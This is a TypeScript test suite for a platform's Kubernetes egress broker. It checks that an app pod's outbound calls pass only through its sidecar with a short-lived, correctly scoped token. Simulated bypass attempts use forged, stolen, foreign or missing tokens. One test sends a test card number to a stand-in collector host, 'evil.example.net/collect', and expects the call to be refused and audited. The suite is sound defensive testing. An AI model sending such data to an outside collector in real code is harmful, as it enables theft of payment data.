// The egress broker as the cluster's pods reach it. A pod's app calls out the way it does under the local
// driver (its preload sends fetch, http and https to /run/egress/proxy.sock); the egress sidecar the
// Kubernetes driver renders listens there and passes each call to the broker's Service over TLS with the
// pod's own projected token (audience microapp-egress), mounted in the sidecar only. The sidecar here is the
// very program the rendered Deployment carries, run with the environment it gives it; the broker is the
// platform's own, on MICROAPP_EGRESS_LISTEN. The attacks are app code that skips the sidecar and speaks to
// the broker itself, with no token, a stolen artifact token, a forged or long-lived one, another namespace's,
// or one of an app not rendered for the cluster; and a retired app's pod.
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, request, type Server } from 'node:http';
import { request as httpsRequest } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'yaml';
import type { RunningServer } from '../src/server-types.ts';
import { clusterIssuer, clusterIssuerUrl as issuer, type PodTokenClaims } from './cluster-issuer.ts';
import {
  call,
  companyCa,
  engines,
  lunchPoll,
  people,
  signInEveryone,
  sourceArchive,
  startReplica,
  startTestServer,
  type TestServer,
} from './harness.ts';
import { importEmptySnapshot } from './replica-helpers.ts';

const name = 'rates-poll';

type Answer = { status: number; headers: IncomingHttpHeaders; body: string };

/** A request as the app's preload sends it to the egress socket: the host it means, and the scheme. */
function viaSocket(socketPath: string, host: string, path: string, body?: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        socketPath,
        method: body ? 'POST' : 'GET',
        path,
        headers: {
          host,
          'x-microapp-egress-scheme': 'http',
          ...(body ? { 'content-type': 'text/plain' } : {}),
        },
      },
      (res) => {
        let text = '';
        res.on('data', (d) => (text += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

for (const engine of engines())
  describe(`a pod's calls go out through its egress sidecar and the broker's Service (${engine})`, () => {
    let server: TestServer;
    // PostgreSQL: a second replica, as the broker's second pod, and a sidecar of another pod sent to it.
    let replica: RunningServer | null = null;
    let replicaSocket: string;
    let dir: string;
    let ca: string;
    let brokerPort: number;
    let upstream: Server;
    const sidecars: ChildProcess[] = [];
    let startSidecar: (brokerPort: number, socketPath: string) => Promise<void>;
    let socketPath: string;
    let deployment: { spec: { template: { spec: Record<string, any> } } };
    let t: Awaited<ReturnType<typeof signInEveryone>>;
    let sign: (claims?: PodTokenClaims) => Promise<string>;
    let foreign: (claims?: PodTokenClaims) => Promise<string>;
    const seen: { path: string; headers: IncomingHttpHeaders; body: string }[] = [];

    /** A replica that serves as the broker's pod: the cluster's token issuer, TLS, the upstream's name. */
    const brokerEnv = () => ({
      MICROAPP_KUBERNETES_TOKEN_ISSUER: issuer,
      MICROAPP_KUBERNETES_TOKEN_JWKS: join(dir, 'jwks.json'),
      MICROAPP_KUBERNETES_RUNTIME_IMAGE: `registry.example.com/node@sha256:${'cd'.repeat(32)}`,
      MICROAPP_EGRESS_LISTEN: '127.0.0.1:0',
      MICROAPP_EGRESS_TLS_CERT_FILE: join(dir, 'egress.crt'),
      MICROAPP_EGRESS_TLS_KEY_FILE: join(dir, 'egress.key'),
      MICROAPP_DEV_EGRESS_HOSTS: `api.rates.example.com=127.0.0.1:${(upstream.address() as AddressInfo).port}`,
    });

    const egressRows = () =>
      server.db.kysely
        .selectFrom('app_egress')
        .innerJoin('apps', 'apps.id', 'app_egress.app_id')
        .select(['app_egress.host', 'app_egress.decision'])
        .where('apps.name', '=', name)
        .execute();

    /** Straight to the broker's port, as app code that skips the sidecar would. */
    const direct = (authorization: string | null, method = 'GET', path = '/rates'): Promise<Answer> =>
      new Promise((resolve, reject) => {
        const req = httpsRequest(
          {
            host: '127.0.0.1',
            port: brokerPort,
            method,
            path,
            ca: readFileSync(ca),
            servername: 'localhost',
            headers: {
              host: method === 'CONNECT' ? path : 'api.rates.example.com',
              ...(authorization ? { 'proxy-authorization': authorization } : {}),
            },
          },
          (res) => {
            let text = '';
            res.on('data', (d) => (text += d));
            res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }));
          },
        );
        req.on('connect', (res, socket) => {
          socket.destroy();
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: '' });
        });
        req.on('error', reject);
        req.end();
      });

    before(async () => {
      dir = mkdtempSync(join(tmpdir(), 'microapp-k8s-egress-'));
      const issued = companyCa(dir);
      ca = issued.ca;
      writeFileSync(join(dir, 'egress.crt'), issued.cert);
      writeFileSync(join(dir, 'egress.key'), issued.key, { mode: 0o600 });
      ({ sign, foreign } = await clusterIssuer(dir, {
        sub: `system:serviceaccount:microapps:${name}`,
        aud: 'microapp-egress',
      }));

      upstream = createServer((req, res) => {
        let body = '';
        req.on('data', (d) => (body += d));
        req.on('end', () => {
          seen.push({ path: req.url ?? '', headers: req.headers, body });
          res.setHeader('content-type', 'application/json');
          res.end(JSON.stringify({ eur: 1.08 }));
        });
      });
      await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
      server = await startTestServer(engine, { env: brokerEnv() });
      brokerPort = server.internals.egressPort!;
      t = await signInEveryone(server);
      await importEmptySnapshot(server, t.carol);
      // Registered, approved and published, but never rendered for the cluster: its pods are nobody's.
      for (const app of [name, 'unrendered-poll']) {
        const reg = await call(server, 'POST', '/api/v1/apps', {
          token: t.dave,
          body: lunchPoll({
            name: app,
            owner: people.dave,
            audience: { department: 'finance' },
            integrations: { egress: ['api.rates.example.com'] },
          }),
        });
        assert.equal(reg.status, 201, reg.text);
        if (reg.body.app.state !== 'approved') {
          const review = await call(server, 'POST', `/api/v1/apps/${app}/reviews`, {
            token: t.bob,
            body: { decision: 'approve' },
          });
          assert.equal(review.status, 200, review.text);
        }
        const pub = await call(server, 'POST', `/api/v1/apps/${app}/versions`, {
          token: t.dave,
          body: {
            version: '1.0.0',
            artifact: await sourceArchive({
              'package.json': JSON.stringify({ name: app, version: '1.0.0' }),
              'server.js':
                "require('node:http').createServer((q, s) => s.end('hi')).listen(process.env.PORT);\n",
            }),
            sbom: { bomFormat: 'CycloneDX', specVersion: '1.6', version: 1, components: [] },
          },
        });
        assert.equal(pub.status, 201, pub.text);
      }
      const rendered = await call(server, 'POST', `/api/v1/apps/${name}/kubernetes-manifests`, {
        token: t.dave,
        body: { version: '1.0.0' },
      });
      assert.equal(rendered.status, 200, rendered.text);
      deployment = parse(
        (rendered.body.files as { path: string; content: string }[]).find(
          (f) => f.path === `apps/${name}/deployment.yaml`,
        )!.content,
      );

      // The rendered sidecar, run as the pod runs it: its program and environment, with the broker's
      // Service name pointing at this machine (no cluster DNS here) and the kubelet's token as a file.
      const container = deployment.spec.template.spec.containers.find(
        (c: { name: string }) => c.name === 'egress',
      );
      const env: Record<string, string> = Object.fromEntries(
        (container.env as { name: string; value: string }[]).map((e) => [e.name, e.value]),
      );
      assert.equal(env.BROKER_URL, 'https://microapp-egress.microapp-system.svc:3128');
      socketPath = join(dir, 'proxy.sock');
      writeFileSync(join(dir, 'token'), await sign());
      startSidecar = async (port: number, socket: string) => {
        const child = spawn(
          container.command[0] === 'node' ? process.execPath : container.command[0],
          [...container.command.slice(1)],
          {
            env: {
              PATH: process.env.PATH,
              BROKER_URL: `https://localhost:${port}`,
              EGRESS_SOCKET: socket,
              EGRESS_TOKEN_FILE: join(dir, 'token'),
              NODE_EXTRA_CA_CERTS: ca,
            },
            stdio: ['ignore', 'pipe', 'inherit'],
          },
        );
        sidecars.push(child);
        await new Promise<void>((resolve, reject) => {
          child.stdout!.on('data', (d: Buffer) => {
            if (String(d).includes('goes to')) resolve();
          });
          child.once('exit', (code) => reject(new Error(`the sidecar stopped (${code})`)));
        });
      };
      await startSidecar(brokerPort, socketPath);
    });
    after(async () => {
      for (const child of sidecars) child.kill();
      if (replica) {
        await replica.close();
        await replica.db.destroy();
      }
      await server?.stop();
      upstream?.close();
      if (dir) rmSync(dir, { recursive: true, force: true });
    });

    test('the Deployment gives the egress token to the sidecar only, and the app its preload', () => {
      const pod = deployment.spec.template.spec;
      const mounts = (c: { volumeMounts: { name: string }[] }) => c.volumeMounts.map((m) => m.name);
      const all = [...pod.initContainers, ...pod.containers];
      assert.deepEqual(
        all.filter((c) => mounts(c).includes('egress-token')).map((c) => c.name),
        ['egress'],
      );
      assert.deepEqual(
        all.filter((c) => mounts(c).includes('artifact-token')).map((c) => c.name),
        ['fetch-artifact'],
      );
      const token = pod.volumes.find((v: { name: string }) => v.name === 'egress-token');
      assert.equal(token.projected.sources[0].serviceAccountToken.audience, 'microapp-egress');
      const app = pod.containers.find((c: { name: string }) => c.name === 'app');
      assert.deepEqual(app.command.slice(0, 3), ['node', '--require', '/run/egress/shim.cjs']);
      assert.ok(
        app.volumeMounts.some((m: { name: string; readOnly?: boolean }) => m.name === 'egress' && m.readOnly),
      );
      assert.equal(
        app.env.find((e: { name: string }) => /PROXY/.test(e.name)),
        undefined,
        'no proxy address the app could use without the sidecar',
      );
      assert.equal(pod.containers[0].name, 'egress', 'the sidecar starts first');
    });

    test("an approved host is reached through the sidecar; the pod's token never leaves the platform", async () => {
      const res = await viaSocket(socketPath, 'api.rates.example.com', '/rates?currency=eur', 'q=1');
      assert.equal(res.status, 200, res.body);
      assert.deepEqual(JSON.parse(res.body), { eur: 1.08 });
      const got = seen.at(-1)!;
      assert.equal(got.path, '/rates?currency=eur');
      assert.equal(got.body, 'q=1');
      assert.equal(got.headers['proxy-authorization'], undefined, 'the token stays with the broker');
      assert.equal(got.headers['x-microapp-egress-scheme'], undefined);
      // Recorded as the app's, once the answer has ended (the record is written after it).
      let rows = await egressRows();
      for (let i = 0; i < 50 && rows.length === 0; i++) {
        await new Promise((r) => setTimeout(r, 100));
        rows = await egressRows();
      }
      assert.deepEqual(rows, [{ host: 'api.rates.example.com', decision: 'allowed' }]);
    });

    test('a host the app is not approved for is refused by the same rules, and audited as the app’s', async () => {
      const count = seen.length;
      const res = await viaSocket(socketPath, 'evil.example.net', '/collect', 'card=4111111111111111');
      assert.equal(res.status, 403, res.body);
      assert.equal(res.headers['x-microapp-egress'], 'denied');
      assert.match(JSON.parse(res.body).detail, /evil\.example\.net is not in rates-poll's approved egress/);
      assert.equal(seen.length, count);
      const audit = await call(server, 'GET', `/api/v1/audit/events?app=${name}&action=egress.denied`, {
        token: t.ivan,
      });
      assert.equal(audit.status, 200, audit.text);
      const events = audit.body.items as { actor: string; summary: { host: string } }[];
      assert.ok(
        events.some((e) => e.actor === `app:${name}` && e.summary.host === 'evil.example.net'),
        JSON.stringify(events),
      );
    });

    test('app code that skips the sidecar gets nothing: no token, a stolen artifact token, a forged, long-lived or foreign one', async () => {
      const count = seen.length;
      const none = await direct(null);
      assert.equal(none.status, 407, none.body);
      assert.equal(none.headers['proxy-authenticate'], 'Bearer realm="microapp-egress"');
      const refusals: [string, string, number, RegExp][] = [
        ['garbage', 'Bearer not-a-token-at-all-really', 407, /not one this platform takes/],
        [
          'the artifact token',
          `Bearer ${await sign({ aud: 'microapp-artifacts' })}`,
          407,
          /audience microapp-egress/,
        ],
        ['a forged token', `Bearer ${await foreign()}`, 407, /not one this platform takes/],
        ['a long-lived token', `Bearer ${await sign({ lifetime: 7200 })}`, 407, /only short-lived/],
        [
          'another namespace',
          `Bearer ${await sign({ sub: `system:serviceaccount:default:${name}` })}`,
          403,
          /namespace microapps/,
        ],
        [
          'an app never rendered for the cluster',
          `Bearer ${await sign({ sub: 'system:serviceaccount:microapps:unrendered-poll' })}`,
          403,
          /not an app rendered for the cluster/,
        ],
        ['a person-style header', `Basic ${Buffer.from('dave:secret').toString('base64')}`, 407, /Bearer/],
      ];
      for (const [what, authorization, status, reason] of refusals) {
        const res = await direct(authorization);
        assert.equal(res.status, status, `${what}: ${res.body}`);
        assert.match(JSON.parse(res.body).detail, reason, what);
      }
      const tunnel = await direct(null, 'CONNECT', 'api.rates.example.com:443');
      assert.equal(tunnel.status, 407, 'a tunnel without a token');
      assert.equal(seen.length, count, 'none of them reached the upstream');
    });

    // Replicas share PostgreSQL: on SQLite there is no second pod to run.
    if (engine === 'postgres')
      test('a second broker pod (another replica) takes the same pods and records their calls', async () => {
        replica = await startReplica(server, { env: brokerEnv() });
        const port = replica.internals.egressPort!;
        assert.notEqual(port, brokerPort);
        replicaSocket = join(dir, 'proxy-b.sock');
        await startSidecar(port, replicaSocket);
        const before = await egressRows();
        const res = await viaSocket(replicaSocket, 'api.rates.example.com', '/rates?via=b');
        assert.equal(res.status, 200, res.body);
        assert.equal(seen.at(-1)!.path, '/rates?via=b');
        let rows = await egressRows();
        for (let i = 0; i < 50 && rows.length === before.length; i++) {
          await new Promise((r) => setTimeout(r, 100));
          rows = await egressRows();
        }
        assert.equal(rows.length, before.length + 1, 'the second pod recorded the call as the app’s');
        // A host the app is not approved for is refused there too.
        const refused = await viaSocket(replicaSocket, 'evil.example.net', '/collect');
        assert.equal(refused.status, 403, refused.body);
      });

    test("a retired app's pod gets no way out", async () => {
      const gone = await call(server, 'POST', `/api/v1/apps/${name}/decommission`, {
        token: t.dave,
        body: { reason: 'rates come from the treasury feed now' },
      });
      assert.equal(gone.status, 200, gone.text);
      const count = seen.length;
      const res = await viaSocket(socketPath, 'api.rates.example.com', '/rates');
      assert.equal(res.status, 403, res.body);
      assert.match(JSON.parse(res.body).detail, /outbound calls are refused/);
      // A tunnel through the sidecar is refused the same way, and audited as the app's too.
      const tunnel = await new Promise<number>((resolve, reject) => {
        const req = request({ socketPath, method: 'CONNECT', path: 'api.rates.example.com:443' });
        req.on('connect', (answer, socket) => {
          socket.destroy();
          resolve(answer.statusCode ?? 0);
        });
        req.on('error', reject);
        req.end();
      });
      assert.equal(tunnel, 403);
      assert.equal(seen.length, count);
      const audit = await call(server, 'GET', `/api/v1/audit/events?app=${name}&action=egress.denied`, {
        token: t.ivan,
      });
      const methods = (audit.body.items as { reason: string; summary: { method: string } }[])
        .filter((e) => /outbound calls are refused/.test(e.reason))
        .map((e) => e.summary.method)
        .sort();
      assert.deepEqual(methods, ['CONNECT', 'GET']);
      // The other broker pod refuses it too: it reads the app's state from the database both share.
      if (replica) {
        const other = await viaSocket(replicaSocket, 'api.rates.example.com', '/rates?via=b');
        assert.equal(other.status, 403, other.body);
        assert.match(JSON.parse(other.body).detail, /outbound calls are refused/);
      }
    });
  });
